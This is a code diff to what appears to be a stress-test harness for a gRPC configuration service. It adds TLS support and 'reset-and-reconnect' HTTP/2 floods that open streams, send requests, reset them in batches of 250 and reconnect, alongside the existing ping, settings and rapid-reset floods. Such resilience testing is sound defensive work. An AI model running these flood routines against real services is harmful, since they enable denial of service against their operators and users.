@@ -1,7 +1,8 @@
 # SPDX-License-Identifier: Apache-2.0
 """Cheap frames as fast as one process can send them on four connections: pings, settings, empty data, streams that are
-reset as soon as they are opened."""
+reset as soon as they are opened. Some clients reset 250 streams and connect again, before any limit of a connection."""
 
+import os
 import struct
 import time
 
@@ -12,6 +13,11 @@ GOALS = kit.GOALS
 CONNECTIONS = 4
 
 
+def connect(target):
+    """With TLS if certificates have been made."""
+    return kit.Peer(target.port, tls=kit.tls("greedy") if "QCONFIG_ATTACK_TLS" in os.environ else None)
+
+
 def flood(target, seconds, frames, beginning=lambda peer: b""):
     """Sends frames(peer, n) until the end, on new connections for those that the server closes."""
     until, peers, figures = time.monotonic() + seconds, [], {"sent_mb": 0, "connections": 0}
@@ -19,7 +25,7 @@ def flood(target, seconds, frames, beginning=lambda peer: b""):
     while time.monotonic() < until:
         try:
             while len(peers) < CONNECTIONS:
-                peers.append(kit.Peer(target.port))
+                peers.append(connect(target))
                 peers[-1].send(beginning(peers[-1]))
                 figures["connections"] += 1
             for peer in peers:
@@ -64,5 +70,46 @@ def rapid_reset(target, seconds):
     return flood(target, seconds, frames)
 
 
+def reset_and_reconnect(target, seconds, method=kit.GET_CONFIG, calls=250):
+    """The same bytes on each connection, so that sending them costs the client nearly nothing."""
+    until, figures, peers, first = time.monotonic() + seconds, {"connections": 0, "refused": 0}, [], b""
+    while time.monotonic() < until:
+        try:
+            peer = connect(target)
+            if not first:
+                peer.encoder.header_table_size = 0  # no headers depend on earlier ones
+                for stream in range(1, 2 * calls, 2):
+                    call = kit.config_request(tenant="greedy", model_type="llama", scheme=f"none{stream}")
+                    first += kit.frame(kit.HEADERS, kit.END_HEADERS, stream, peer.request(method))
+                    first += kit.frame(kit.DATA, kit.END_STREAM, stream, kit.message(call.SerializeToString()))
+                    first += kit.frame(kit.RST, 0, stream, struct.pack(">I", 8))
+            peer.send(first)
+            figures["connections"] += 1
+            peers.append(peer)
+        except OSError:
+            figures["refused"] += 1
+        if len(peers) > CONNECTIONS:
+            peers.pop(0).close()
+    return figures
+
+
+def reset_lists_and_reconnect(target, seconds):
+    return reset_and_reconnect(target, seconds, "/qconfig.v1.ConfigService/ListSchemes")
+
+
+def reset_batches_and_reconnect(target, seconds):
+    return reset_and_reconnect(target, seconds, "/qconfig.v1.ConfigService/BatchGetConfig")
+
+
 if __name__ == "__main__":
-    kit.main(ping, settings, empty_data, rapid_reset, goals=GOALS, seconds=10)
+    kit.main(
+        ping,
+        settings,
+        empty_data,
+        rapid_reset,
+        reset_and_reconnect,
+        reset_lists_and_reconnect,
+        reset_batches_and_reconnect,
+        goals=GOALS,
+        seconds=18,
+    )
